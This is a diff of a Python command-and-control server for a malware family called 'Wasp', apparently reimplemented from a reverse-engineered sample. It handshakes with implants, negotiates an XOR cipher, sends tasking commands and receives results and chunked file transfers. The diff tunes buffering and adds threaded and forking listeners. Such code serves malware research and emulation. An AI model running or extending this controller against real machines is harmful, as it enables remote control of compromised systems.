@@ -5,7 +5,6 @@ from __future__ import annotations
 import uuid
 import json
 import struct
-from enum import Enum
 import socketserver
 import random
 import base64
@@ -13,53 +12,49 @@ import time
 
 from pathlib import Path
 
-from typing import Dict, List, Optional
+from typing import Callable, Dict, List, Optional
 
 import logging
 
 from constants import WASP_HOME, WASPS_PATH, logger
-from wasp_types import WaspException, WaspMalware, WaspCommand, WaspResponse, WaspCommandChunked
+from wasp_cipher import WaspMethod, WaspCipher, WaspSimpleCipher, null_cipher
+from wasp_types import WaspException, WaspMalware, WaspCommand, WaspResponse, WaspCommandChunked, uint32_struct
 from wasp_commands import WaspCommandHandshake
 
 
 # This is used in the "Handshake" method to authenticate between clients and servers
 # TODO: We should patch the binary so it uses a different value
-magic_secret = struct.pack("!I", 0x75636573)
-
-# This comes from the "SimplePassword" class in libse1linux (0fe1248ecab199bee383cef69f2de77d33b269ad1664127b366a4e745b1199c8)
-cipher_bytes = b'\xf7\xe0\xc9\xb2\x9b\x84\x6d\x56\x3f\x28\x11\xf9\xe2\xcb\xb4\x9d\x86\x6f\x58\x41\x2a\x13\xfb\xe4\xcd\xb6\x9f\x88\x71\x5a\x43\x2c\x15\xfd\xe6\xcf\xb8\xa1\x8a\x73\x5c\x45\x2e\x17\x00\xe8\xd1\xba\xa3\x8c\x75\x5e\x47\x30\x19\x02\xea\xd3\xbc\xa5\x8e\x77\x60\x49\x32\x1b\x04\xec\xd5\xbe\xa7\x90\x79\x62\x4b\x34\x1d\x06\xee\xd7\xc0\xa9\x92\x7b\x64\x4d\x36\x1f\x08\xf0\xd9\xc2\xab\x94\x7d\x66\x4f\x38\x21\x0a\xf2\xdb\xc4\xad\x96\x7f\x68\x51\x3a\x23\x0c\xf4\xdd\xc6\xaf\x98\x81\x6a\x53\x3c\x25\x0e\xf6\xdf\xc8\xb1\x9a\x83\x6c\x55\x3e\x27\x10\xf8\xe1\xca\xb3\x9c\x85\x6e\x57\x40\x29\x12\xfa\xe3\xcc\xb5\x9e\x87\x70\x59\x42\x2b\x14\xfc\xe5\xce\xb7\xa0\x89\x72\x5b\x44\x2d\x16\xfe\xe7\xd0\xb9\xa2\x8b\x74\x5d\x46\x2f\x18\x01\xe9\xd2\xbb\xa4\x8d\x76\x5f\x48\x31\x1a\x03\xeb\xd4\xbd\xa6\x8f\x78\x61\x4a\x33\x1c\x05\xed\xd6\xbf\xa8\x91\x7a\x63\x4c\x35\x1e\xef\xd8\xc1\xaa\x93\x7c\x65\x4e\x37\x20\x09\xf1\xda\xc3\xac\x95\x7e\x67\x50\x39\x22\x0b\xf3\xdc\xc5\xae\x97\x80\x69\x52\x3b\x24\x0d\xf5\xde\xc7\xb0\x99\x82\x6b\x54\x3d\x26\x0f\xf7'
-
-class WaspMethod(Enum):
-    SIMPLE_CIPHER = 1
-    EMPTY_CIPHER = 0
-
-class WaspCipher(object):
-    method: WaspMethod = WaspMethod.EMPTY_CIPHER
-    def cipher(self, data: bytes) -> bytes:
-        return data
-
-class WaspSimpleCipher(WaspCipher):
-    method: WaspMethod = WaspMethod.SIMPLE_CIPHER
-    offset: int = 0
-    def __init__(self, offset: int = 0) -> None:
-        self.offset = offset
-
-    def cipher(self, data: bytes) -> bytes:
-        encrypted_bytes = b''
-        for b in data:
-            encrypted_value = b ^ cipher_bytes[self.offset]
-            encrypted_bytes += struct.pack('B', encrypted_value)
-            self.offset += 1
-            self.offset = self.offset % len(cipher_bytes)
-        return encrypted_bytes
-
-class WaspServer(socketserver.BaseRequestHandler):
+magic_secret = uint32_struct.pack(0x75636573)
+
+# Chunk sizes are a network order ushort, the cipher method a single byte
+uint16_struct = struct.Struct("!H")
+uint8_struct = struct.Struct("!B")
+
+class WaspServer(socketserver.StreamRequestHandler):
     logger: logging.Logger = logger.getChild("C2")
 
+    # Buffer reads from the Wasp so each small framed read doesn't cost a syscall
+    rbufsize: int = 65536
+    # Messages are small request/response pairs, don't let Nagle hold them back
+    disable_nagle_algorithm: bool = True
+
     wasp: WaspMalware
 
-    cipher_to_wasp: WaspCipher = WaspCipher()
-    cipher_from_wasp: WaspCipher = WaspCipher()
+    cipher_to_wasp: WaspCipher = null_cipher
+    cipher_from_wasp: WaspCipher = null_cipher
+    # The ciphers' methods, bound once when each cipher is chosen rather than looked up per message
+    encrypt: Callable[[bytes], bytes]
+    decrypt: Callable[[bytes], bytes]
+
+    # Chunks are received into this buffer, so they don't need a new allocation each
+    chunk_buffer: bytearray
+
+    def setup(self):
+        super().setup()
+        self.encrypt = self.cipher_to_wasp.cipher
+        self.decrypt = self.cipher_from_wasp.cipher
+        # Chunk sizes are a ushort, so this fits any chunk and its size
+        self.chunk_buffer = bytearray(0xFFFF)
 
     def run_receive_thread(self):
         while True:
@@ -67,7 +62,7 @@ class WaspServer(socketserver.BaseRequestHandler):
 
 
     def handle(self):
-        self.logger.info(f"Connection received: {self.request}")
+        self.logger.info("Connection received: %s", self.request)
         self.handshake()
 
         # This is somewhat useful for debugging...
@@ -96,62 +91,78 @@ class WaspServer(socketserver.BaseRequestHandler):
 
                 for command in commands:
                     self.send_command(command)
-                    response = self.receive_result()
+                    response = self.receive_result(command)
                     if response:
                         command.submit_response(response)
                         command.mark_complete()
-            self.logger.info(f"No more tasks for {self.wasp}")
+            self.logger.info("No more tasks for %s", self.wasp)
         except KeyboardInterrupt:
-            self.logger.warning(f"Terminating connection to {self.wasp} at user request")
+            self.logger.warning("Terminating connection to %s at user request", self.wasp)
             time.sleep(3) 
 
+    def receive_exactly(self, length: int) -> bytes:
+        """ Read exactly `length` bytes from the Wasp, raising if the connection closes first """
+        received = self.rfile.read(length)
+        if len(received) != length:
+            raise WaspException(f"Connection closed after {len(received)} of {length} bytes")
+        return received
+
+    def receive_into(self, buffer: memoryview) -> memoryview:
+        """ Fill `buffer` from the Wasp, raising if the connection closes first """
+        received = self.rfile.readinto(buffer)
+        if received != len(buffer):
+            raise WaspException(f"Connection closed after {received} of {len(buffer)} bytes")
+        return buffer
+
     def handshake_from_wasp(self) -> WaspMethod:
         # Get config from wasp
 
         # @ 0x00416837
-        received_secret = self.request.recv(len(magic_secret))
-        self.logger.info(f"Received: {received_secret}")
+        received_secret = self.receive_exactly(len(magic_secret))
+        self.logger.info("Received: %s", received_secret)
         if received_secret != magic_secret:
             # We're talking to a Wasp!
             raise WaspException(f"This is not a Wasp! {received_secret}")
 
         # Read reserved field, one byte, should equal 0x0
         # @ 0x00416878
-        reserved_field = self.request.recv(1)
-        self.logger.debug(f"Reserved field: {reserved_field}")
+        reserved_field = self.receive_exactly(1)
+        self.logger.debug("Reserved field: %s", reserved_field)
         if not reserved_field == b'\x00':
             raise WaspException(f"Unexpected reserved field: {reserved_field}")
 
         # Receive the crypt method. Hardcoded to 1, we've patched to 0
         # @ 0x004168b9
-        method_raw = self.request.recv(1)
-        method_value, = struct.unpack('!B', method_raw)
+        method_raw = self.receive_exactly(1)
+        method_value = method_raw[0]
         method = WaspMethod(method_value)
-        self.logger.info(f"Crypt method from Wasp: {method}")
+        self.logger.info("Crypt method from Wasp: %s", method)
         if method == WaspMethod.EMPTY_CIPHER:
-            self.cipher_from_wasp = WaspCipher()
+            self.cipher_from_wasp = null_cipher
         if method == WaspMethod.SIMPLE_CIPHER:
-            offset_raw = self.request.recv(1)
-            offset, = struct.unpack('!B', offset_raw)
-            self.logger.info(f"SimpleCipher offset: {offset}")
+            offset_raw = self.receive_exactly(1)
+            offset = offset_raw[0]
+            self.logger.info("SimpleCipher offset: %s", offset)
             self.cipher_from_wasp = WaspSimpleCipher(offset)
+        self.decrypt = self.cipher_from_wasp.cipher
 
         # The Wasp will now immediately send a response
         # @ 0x00416d32
         return method
 
     def handshake_to_wasp(self):
-        self.logger.info(f"Handshake to wasp")
+        self.logger.info("Handshake to wasp")
+        self.cipher_to_wasp = null_cipher
+        self.encrypt = self.cipher_to_wasp.cipher
+        method = self.cipher_to_wasp.method
         # First the magic
-        self.logger.debug(f"Sending magic: {magic_secret}")
-        self.request.sendall(magic_secret)
+        self.logger.debug("Sending magic: %s", magic_secret)
         # Then the reserved field
         self.logger.debug("Sending reserved field")
-        self.request.sendall(b'\x01') # TODO: Should this be 0x0??
-        self.cipher_to_wasp = WaspCipher()
-        method = self.cipher_to_wasp.method
-        self.logger.info(f"Sending method: {method}")
-        self.request.sendall(struct.pack('!B', method.value))
+        reserved_field = b'\x01' # TODO: Should this be 0x0??
+        self.logger.info("Sending method: %s", method)
+        # Send the handshake in one go rather than three tiny segments
+        self.request.sendall(magic_secret + reserved_field + uint8_struct.pack(method.value))
 
     def handshake(self):
         """
@@ -168,109 +179,128 @@ class WaspServer(socketserver.BaseRequestHandler):
         self.send_command(WaspCommandHandshake())
 
     def send_command(self, command: WaspCommand):
-        self.logger.info(f"Tasking with {command}")
+        self.logger.info("Tasking with %r", command)
         packed = command.pack()
-        encrypted = self.cipher_to_wasp.cipher(packed)
+        encrypted = self.encrypt(packed)
         self.request.sendall(encrypted)
 
         if isinstance(command, WaspCommandChunked):
             chunked_command: WaspCommandChunked = command
             self.send_chunks(chunked_command.get_data())
 
-        self.logger.info(f"Tasked")
+        self.logger.info("Tasked")
 
-    def receive_result(self) -> Optional[WaspResponse]:
+    def receive_result(self, command: Optional[WaspCommand] = None) -> Optional[WaspResponse]:
         # First receive the length
-        encrypted_result_length = self.request.recv(4)
-        if not encrypted_result_length:
-            raise WaspException(f"Didn not receive response length: {encrypted_result_length}")
-        raw_result_length = self.cipher_from_wasp.cipher(encrypted_result_length)
-        self.logger.debug(f"Received size bytes: {encrypted_result_length}")
+        encrypted_result_length = self.receive_exactly(4)
+        raw_result_length = self.decrypt(encrypted_result_length)
+        self.logger.debug("Received size bytes: %s", encrypted_result_length)
         if not raw_result_length:
             raise WaspException(f"Did not decrypt response length: {raw_result_length}")
-        result_length, = struct.unpack("!I", raw_result_length)
+        result_length, = uint32_struct.unpack(raw_result_length)
         # then the response
         if result_length == 0:
-            self.logger.info(f"Empty response")
+            self.logger.info("Empty response")
             return None
-        encrypted_response: bytes = self.request.recv(result_length)
-        raw_response = self.cipher_from_wasp.cipher(encrypted_response)
+        encrypted_response: bytes = self.receive_exactly(result_length)
+        raw_response = self.decrypt(encrypted_response)
         try:
-            response = json.loads(raw_response.decode('utf-8'))
+            response = json.loads(raw_response)
 
-            response_pretty = json.dumps(response, indent=2, sort_keys=True)
-            self.logger.info(f"Received response: {response_pretty}")
-            data = b''
-            if response.get("headers", {}).get("Transfer-Encoding") == "chunked":
+            if self.logger.isEnabledFor(logging.INFO):
+                response_pretty = json.dumps(response, indent=2, sort_keys=True)
+                self.logger.info("Received response: %s", response_pretty)
+            result = WaspResponse(response, b'')
+            if result.chunked:
                 # Switch to chunked encoding.
-                self.logger.info(f"Switching to chunked encoding")
-                data = self.receive_chunks()
-            return WaspResponse(response, data)
+                self.logger.info("Switching to chunked encoding")
+                sink = command.open_chunk_sink() if command else None
+                if sink:
+                    # Write each chunk out as it arrives rather than holding the whole transfer
+                    with sink as sink_file:
+                        self.receive_chunks(sink_file.write)
+                else:
+                    result.data = self.receive_chunks()
+            return result
         except json.JSONDecodeError:
-            self.logger.info(f"Raw response: {raw_response}")
+            self.logger.info("Raw response: %s", raw_response)
             raise WaspException("Should be in chunked mode, but we aren't")
 
-    def receive_chunks(self) -> bytes:
+    def receive_chunks(self, sink: Optional[Callable[[bytes], object]] = None) -> bytes:
         # First receive the length
-        received_bytes = b''
-        self.logger.debug(f"In chunked encoding mode")
+        received_bytes = bytearray()
+        chunk_view = memoryview(self.chunk_buffer)
+        decrypt = self.decrypt
+        self.logger.debug("In chunked encoding mode")
         while True:
-            self.logger.debug(f"Waiting for 2 byte chunk size")
-            encrypted_result_length = self.request.recv(2)
-            if not encrypted_result_length:
-                raise WaspException(f"Didn't not receive response length: {encrypted_result_length}")
-            raw_result_length = self.cipher_from_wasp.cipher(encrypted_result_length)
-            self.logger.debug(f"Received size bytes: {encrypted_result_length}")
+            self.logger.debug("Waiting for 2 byte chunk size")
+            # The size is unpacked before the chunk is read, so it can share the chunk buffer
+            encrypted_result_length = self.receive_into(chunk_view[:2])
+            raw_result_length = decrypt(encrypted_result_length)
             if not raw_result_length:
                 raise WaspException(f"Did not decrypt response length: {raw_result_length}")
-            result_length, = struct.unpack("!H", raw_result_length)
+            result_length, = uint16_struct.unpack_from(raw_result_length)
+            self.logger.debug("Received chunk size: %d", result_length)
 
             # The end of the chunk encoded stream is a length of zero
             if result_length == 0:
-                self.logger.info(f"Empty response. Chunked transfer complete.")
-                return received_bytes
+                self.logger.info("Empty response. Chunked transfer complete.")
+                return bytes(received_bytes)
 
             # If there is a size, read the chunk
-            encrypted_response: bytes = self.request.recv(result_length)
-            raw_response = self.cipher_from_wasp.cipher(encrypted_response)
-            self.logger.info(f"Raw response: {raw_response}")
-            received_bytes += raw_response
+            encrypted_response = self.receive_into(chunk_view[:result_length])
+            raw_response = decrypt(encrypted_response)
+            self.logger.debug("Received chunk of %d bytes", result_length)
+            if sink:
+                sink(raw_response)
+            else:
+                received_bytes.extend(raw_response)
 
     def send_chunks(self, data: bytes):
-        self.logger.debug(f"In chunked encoding mode")
+        self.logger.debug("In chunked encoding mode")
         chunk_size = 255 # Maximum is ushort
-        remaining: bytes = data
-        while len(remaining) > 0:
-            chunk = remaining[:chunk_size]
-            remaining = remaining[chunk_size:]
-            self.logger.debug(f"Sending chunk of size {len(chunk)}")
+        data_view = memoryview(data)
+        # Frame the whole transfer first. The cipher is a stream, so encrypting it in one go
+        # produces the same bytes as encrypting each size and chunk in turn.
+        framed = bytearray()
+        for chunk_start in range(0, len(data_view), chunk_size):
+            chunk = data_view[chunk_start:chunk_start + chunk_size]
+            self.logger.debug("Sending chunk of size %d", len(chunk))
 
             # Make sure we send the correct chunk size here, we will throw and exception
             # if it does not fit into a short
-            chunk_size_packed = struct.pack('!H', len(chunk))
-            chunk_size_encrypted = self.cipher_to_wasp.cipher(chunk_size_packed)
-            self.request.sendall(chunk_size_packed)
-
-            encrypted_chunk = self.cipher_to_wasp.cipher(chunk)
-            self.request.sendall(encrypted_chunk)
-
-        self.logger.debug(f"Sending termination chunk")
-        chunk_size_packed = struct.pack('!H', 0)
-        encrypted_chunk = self.cipher_to_wasp.cipher(chunk_size_packed)
-        self.request.sendall(encrypted_chunk)
+            framed += uint16_struct.pack(len(chunk))
+            framed += chunk
 
+        self.logger.debug("Sending termination chunk")
+        framed += uint16_struct.pack(0)
+        self.request.sendall(self.encrypt(framed))
 
 
+class WaspBaseTCPServer(socketserver.TCPServer):
+    """ Listener settings shared by the threading and forking servers """
+    # Allow restarting the C2 while old connections are in TIME_WAIT
+    allow_reuse_address: bool = True
+    # Many Wasps may beacon at once
+    request_queue_size: int = 128
 
+class WaspTCPServer(socketserver.ThreadingMixIn, WaspBaseTCPServer):
+    """ Serve each Wasp from its own thread """
+    pass
 
+class WaspForkingTCPServer(socketserver.ForkingMixIn, WaspBaseTCPServer):
+    """ Serve each Wasp from its own process, so busy connections don't contend for the GIL """
+    pass
 
 
 if __name__ == '__main__':
     import argparse
     parser = argparse.ArgumentParser()
     parser.add_argument('--port', type=int, default=7777, help='The port to listen on')
+    parser.add_argument('--fork', action='store_true', help='Handle each Wasp in its own process instead of a thread')
     args = parser.parse_args()
     logger.info("Wasp ready to serve")
-    with socketserver.ThreadingTCPServer(('0.0.0.0', args.port), WaspServer) as server:
+    server_class = WaspForkingTCPServer if args.fork else WaspTCPServer
+    with server_class(('0.0.0.0', args.port), WaspServer) as server:
         server.serve_forever()
-    logger.warning(f"Shutting down!")
+    logger.warning("Shutting down!")